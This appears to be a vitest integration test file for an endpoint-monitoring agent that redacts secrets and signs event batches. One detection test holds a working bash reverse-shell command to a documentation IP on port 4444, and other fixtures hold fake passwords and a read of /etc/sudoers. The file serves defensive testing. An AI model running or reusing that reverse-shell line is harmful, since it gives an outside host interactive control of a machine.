/** The agent's line end to end: frames in, signed batches out; every event accounted for, no raw value anywhere. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { decodeBatch, unpackBody, verifyBatch } from '#protocol/batch.ts';
import { formatVerifierKey, type VerifierKey } from '#protocol/note.ts';
import { checkSuccession, type Statement } from '#protocol/statement.ts';
import { CLASSES, type EventClass } from '#protocol/vocabulary.ts';
import { openAgent, type Agent } from '../../agent/agent.ts';
import { parseConfig } from '../../config/schema.ts';
import { KEYS } from '../../agent/config.ts';
import { realDisk, type Disk } from '../../agent/disk.ts';
import { Enricher } from '../../agent/enrich.ts';
import type { RawEvent } from '../../agent/event.ts';
import { openIdentity } from '../../agent/identity.ts';
import { Ledger } from '../../agent/ledger.ts';
import { observe, record, type Line } from '../../agent/pipeline.ts';
import { ProcessTable } from '../../agent/process-table.ts';
import { CLASS_OF_FRAME, type ClassCounters, type Frame, type ObservedFrame } from '../../agent/sources/frame.ts';
import { FileSpool, HalfWritten } from '../../agent/spool.ts';
import { UserNames } from '../../agent/users.ts';
import { STARTER_PACK } from '../../collector/detectors/pack.ts';
import { approvalOfPack, approvalOfRuleset } from '../../redaction-rules/approve.ts';
import { compileReleasedValidator } from '../../redaction-rules/released-schema.ts';
import { parseRuleset } from '../../redaction-rules/ruleset.ts';
import { writeApproved } from '../protocol/approved.ts';
import { logKey } from '../protocol/sample.ts';
import { actor, credentials, execFrame, openFrame, released, stillClock } from './sample.ts';

const RULESET = fileURLToPath(new URL('../../redaction-rules/rulesets/generic-linux.yaml', import.meta.url));
const REVERSE_SHELL = '3a13306d-5553-4c59-a6f7-9567398b32ec';
const SECRETS = ['hunter2', 'acme-merger', 'alex', '203.0.113.77', 'payroll', 'zanzibar'];

let home: string;
beforeEach(async () => {
  home = mkdtempSync(join(tmpdir(), 'hushwatch-line-'));
  await writeApproved(home, [approvalOfRuleset(RULESET), approvalOfPack(STARTER_PACK, 'rules', 1)]);
});
afterEach(() => rmSync(home, { recursive: true }));

const openLine = (): Promise<Agent> =>
  openAgent(
    parseConfig(
      [
        'node: node-1',
        `ruleset: ${RULESET}`,
        `rule_pack: ${STARTER_PACK}`,
        `log_key: ${formatVerifierKey(logKey.verifier)}`,
        'identity: identity.key',
        'pseudonym_key: pseudonym.key',
        'spool: spool',
        'approvals: approvals',
        'reviewers: reviewers',
        'receipts: receipts',
        'batch_events: 50',
      ].join('\n'),
      join(home, 'agent.yaml'),
      KEYS,
    ),
  );

const hello = (instance: bigint): Frame => ({ kind: 'hello', atNs: 0, instance, sensorVersion: '0.1.0' });

/** The counters that a sensor would tell after these frames, having merged and lost some more. */
function countersOf(
  frames: readonly ObservedFrame[],
  more: { merged?: number; lost?: number; emitted?: number },
): Frame {
  const classes: Partial<Record<EventClass, ClassCounters>> = {};
  const { merged = 0, lost = 0, emitted = 0 } = more;
  for (const frame of frames) {
    const cls = CLASS_OF_FRAME[frame.kind];
    const before = classes[cls] ?? { seen: merged + lost + emitted, emitted, merged, sampled: 0, lost };
    classes[cls] = { ...before, seen: before.seen + 1, emitted: before.emitted + 1 };
  }
  return { kind: 'counters', atNs: 0, classes };
}

async function* chunksOf<T>(items: readonly T[], size: number): AsyncGenerator<readonly T[]> {
  for (let i = 0; i < items.length; i += size) yield items.slice(i, i + size);
}

const started = (version: string): readonly RawEvent[] => [
  {
    name: 'hushwatch.start',
    time: 1_700_000_000_000_000,
    attributes: { 'hushwatch.component': 'sensor', 'hushwatch.version': version, 'hushwatch.source': 'ebpf' },
  },
];

async function run(agent: Agent, frames: readonly Frame[], changes: Partial<Line> = {}, chunk = 7): Promise<Error[]> {
  const problems: Error[] = [];
  const line = { ...agent.line, ...changes };
  const enricher = new Enricher(new ProcessTable(home), new UserNames('/nonexistent'), stillClock);
  const events = observe(chunksOf(frames, chunk), enricher, line.ledger, {
    met: (version, isNew) => (isNew ? started(version) : []),
    left: () => {},
  });
  await record(events, line, agent.herald, agent.limits, (problem) => problems.push(...(problem ? [problem] : [])));
  return problems;
}

interface Read {
  readonly statements: readonly Statement[];
  readonly lines: readonly string[];
}

/** Everything in the spool, decoded and verified as a collector would. */
function readSpool(key: VerifierKey = openIdentity(join(home, 'identity.key'), 'node-1').verifier): Read {
  const validate = compileReleasedValidator(parseRuleset(readFileSync(RULESET, 'utf8'), RULESET));
  const read: { statements: Statement[]; lines: string[] } = { statements: [], lines: [] };
  for (const name of readdirSync(join(home, 'spool')).toSorted()) {
    if (!name.endsWith('.batch')) continue;
    const batch = verifyBatch(key, decodeBatch(readFileSync(join(home, 'spool', name))));
    if (batch === undefined) expect.fail('not signed');
    expect(checkSuccession(read.statements.at(-1), batch.statement)).toEqual([]);
    const lines = unpackBody(batch);
    for (const line of lines) expect(validate(JSON.parse(line))).toBeUndefined();
    read.statements.push(batch.statement);
    read.lines.push(...lines);
  }
  return read;
}

const secretFrames = (): ObservedFrame[] => [
  execFrame({
    executable: '/usr/bin/mysql',
    args: ['mysql', '-phunter2', '--password=hunter2', '-h', 'acme-merger.example', '-u', 'alex'],
    workingDirectory: '/home/alex/payroll',
  }),
  openFrame({ path: '/home/alex/acme-merger/payroll-zanzibar.xlsx', write: true }),
  { kind: 'rename', path: '/home/alex/payroll', target: '/srv/acme-merger', origin: 'kernel', ...actor() },
  { kind: 'memfd', name: 'zanzibar', ...actor() },
  {
    kind: 'connect',
    socket: {
      family: 'ipv4',
      transport: 'tcp',
      type: 'stream',
      protocol: 6,
      origin: 'kernel',
      peerAddress: '203.0.113.77',
      peerPort: 443,
      localAddress: '203.0.113.77',
      localPort: 5,
      peerCid: undefined,
      localCid: undefined,
      unixPath: '',
    },
    ...actor(),
  },
  { kind: 'credentials', credentials, ...actor() },
];

test('frames become signed batches that hold, add up, and carry nothing raw', async () => {
  const agent = await openLine();
  const frames = Array.from({ length: 40 }, secretFrames).flat();
  const problems = await run(agent, [hello(1n), ...frames, countersOf(frames, { merged: 3, lost: 2 })]);
  expect(problems).toEqual([]);
  const { statements, lines } = readSpool();
  expect(statements.length).toBeGreaterThan(3);
  expect(lines).toHaveLength(frames.length + 1);
  const last = statements.at(-1);
  expect(last?.seen).toMatchObject({ self: 1, process: 45, file: 125, network: 45, privilege: 45 });
  expect(last?.merged).toMatchObject({ file: 3 });
  expect(last?.lost).toMatchObject({ ring: { file: 2 } });
  const everything = [
    ...lines,
    ...readdirSync(join(home, 'spool')).map((name) => readFileSync(join(home, 'spool', name), 'latin1')),
  ].join('\n');
  for (const secret of SECRETS) expect(everything).not.toContain(secret);
  // The test would notice: what is public is there.
  expect(everything).toContain('/usr/bin/mysql');
});

test('a rule that needs raw arguments matches on the node; its name leaves, the arguments do not', async () => {
  const agent = await openLine();
  const attack = execFrame({
    executable: '/usr/bin/bash',
    args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'],
  });
  await run(agent, [hello(1n), attack, execFrame({ executable: '/usr/bin/ls', args: ['ls'] })]);
  const [, first = '', second = ''] = readSpool().lines;
  expect(JSON.parse(first)).toMatchObject({ 'detection.rules': expect.arrayContaining([REVERSE_SHELL]) });
  expect(first).not.toContain('203.0.113.77');
  expect(second).not.toContain('detection.rules');
});

test('an event that is withheld and one whose line is too long are counted, not sent', async () => {
  const agent = await openLine();
  const { redactor } = agent.line;
  const frames = [
    execFrame({ executable: 'x'.repeat(65_536) }),
    execFrame({ executable: '€'.repeat(22_000) }),
    openFrame({}),
    openFrame({ write: true }),
  ];
  const fake: Line['redactor'] = {
    unknown: 0,
    unknownNames: new Map(),
    redact: (event) => {
      if (event.name === 'process.exec')
        return released('process', 1, { path: event.attributes['process.executable.path'] });
      return event.attributes['file.open.access'] === 'write' ? undefined : redactor.redact(event);
    },
  };
  await run(agent, [hello(1n), ...frames, countersOf(frames, {})], { redactor: fake });
  const { statements } = readSpool();
  expect(statements.at(-1)).toMatchObject({
    seen: { file: 2, process: 2, self: 1 },
    released: { file: 1, self: 1 },
    withheld: { file: 1 },
    lost: { oversize: { process: 2 } },
  });
});

/** Full for a while: which writes fail is for the test to say. */
function fullDisk(fails: (write: number) => boolean): Disk {
  let writes = 0;
  return {
    ...realDisk,
    async writeDurably(path, bytes) {
      if (fails(writes++)) throw Object.assign(new Error('no space'), { code: 'ENOSPC' });
      await realDisk.writeDurably(path, bytes);
    },
  };
}

const identity = (): ReturnType<typeof openIdentity> => openIdentity(join(home, 'identity.key'), 'node-1');

test('a disk that is full for a while costs events, which are counted, and nothing else', async () => {
  const agent = await openLine();
  const disk = fullDisk((write) => write >= 4 && write < 8);
  const spool = await FileSpool.open(join(home, 'spool'), identity(), 1 << 28, disk);
  const frames = Array.from({ length: 300 }, () => openFrame({}));
  const problems = await run(agent, [hello(1n), ...frames, countersOf(frames, {})], { spool }, 50);
  expect(problems.map((problem) => Reflect.get(problem, 'code'))).toEqual(['ENOSPC', 'ENOSPC']);
  const { statements, lines } = readSpool();
  const last = statements.at(-1) ?? expect.fail('nothing signed');
  expect(last.seen).toEqual({ file: 300, self: 1 });
  const lost = last.lost.spool?.file ?? 0;
  expect(lost).toBeGreaterThanOrEqual(100);
  expect(lines).toHaveLength(301 - lost);
});

test('a batch that may be promised ends the line; opened again it goes on', async () => {
  const agent = await openLine();
  const breaking = await FileSpool.open(join(home, 'spool'), identity(), 1 << 28, {
    ...realDisk,
    rename: (from, to) => (to.endsWith('.batch') ? Promise.reject(new Error('injected')) : realDisk.rename(from, to)),
  });
  const frames = [openFrame({}), openFrame({})];
  await expect(run(agent, [hello(1n), ...frames], { spool: breaking })).rejects.toBeInstanceOf(HalfWritten);
  expect(readSpool().statements).toEqual([]);

  const again = await openLine();
  // The same sensor; three frames of it were in the hands of the agent that died.
  await run(again, [hello(1n), ...frames, countersOf([...frames, ...frames], { emitted: 3 })]);
  const { statements } = readSpool();
  expect(statements.map(({ sequence }) => sequence)).toEqual([1, 2]);
  expect(statements.at(-1)).toMatchObject({ seen: { file: 7 }, released: { file: 4 }, lost: { queue: { file: 3 } } });
});

test('a spool that is nearly full sheds files first, but not what a rule matched, and says so', async () => {
  const agent = await openLine();
  await run(agent, [hello(1n), ...Array.from({ length: 100 }, () => openFrame({}))]);
  const { bytes } = agent.line.spool;
  const spool = await FileSpool.open(join(home, 'spool'), identity(), bytes / 0.85, realDisk);
  const ledger = new Ledger(spool.last, spool.sensor);
  const matcher: Line['matcher'] = {
    events: new Set(['file.open']),
    match: (event) =>
      event.attributes['file.path'] === '/etc/sudoers' ? ['28832215-5990-4dee-886c-42ead3f58cbf'] : [],
  };
  const frames = [openFrame({}), openFrame({ path: '/etc/sudoers' }), execFrame({})];
  await run(agent, [hello(1n), ...frames], { spool, ledger, matcher });
  expect(readSpool().statements.at(-1)).toMatchObject({
    events: { file: 1, process: 1 },
    seen: { file: 102, process: 1 },
    lost: { spool: { file: 1 } },
  });
});

test('a node with nothing to say says so, signed', async () => {
  await run(await openLine(), []);
  const { statements } = readSpool();
  expect(statements).toHaveLength(1);
  for (const cls of CLASSES) expect(statements[0]?.seen[cls]).toBeUndefined();
});

test('the secrets are made once, for the agent alone, and refused when others may read them', async () => {
  await openLine();
  const before = readFileSync(join(home, 'identity.key'));
  await openLine();
  expect(readFileSync(join(home, 'identity.key'))).toEqual(before);
  writeFileSync(join(home, 'pseudonym.key'), 'short');
  await expect(openLine()).rejects.toThrow('not the roots of pseudonyms');
  rmSync(join(home, 'pseudonym.key'));
  writeFileSync(join(home, 'pseudonym.key'), Buffer.alloc(32, 1), { mode: 0o644 });
  await expect(openLine()).rejects.toThrow('chmod 600');
});

test('while a batch waits for the chain, what comes is counted in the next one', async () => {
  const agent = await openLine();
  const begun = Promise.withResolvers<void>();
  const second = Promise.withResolvers<void>();
  const one = (): readonly RawEvent[] => started('0.1.0');
  async function* events(): AsyncGenerator<readonly RawEvent[]> {
    yield one();
    // The first batch is closed by its age, and this is asked for already.
    await second.promise;
    yield one();
  }
  const line = { ...agent.line, begun: begun.promise };
  const limits = { ...agent.limits, ageMs: 1 };
  const recording = record(events(), line, agent.herald, limits, () => {});
  await sleep(50);
  second.resolve();
  await sleep(50);
  begun.resolve();
  await recording;
  const { statements } = readSpool();
  expect(statements.map(({ seen }) => seen['self'])).toEqual([1, 2]);
});
